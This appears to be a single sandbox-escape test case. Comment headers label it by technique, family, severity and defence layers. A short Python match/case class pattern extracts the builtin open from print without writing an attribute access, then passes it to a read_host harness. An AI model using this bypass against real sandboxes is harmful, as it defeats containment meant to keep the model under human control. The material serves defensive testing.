# technique: a class pattern reads an attribute without naming it as one
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    match print:
        case object(__self__=object(open=found)):
            return found

read_host(trick)
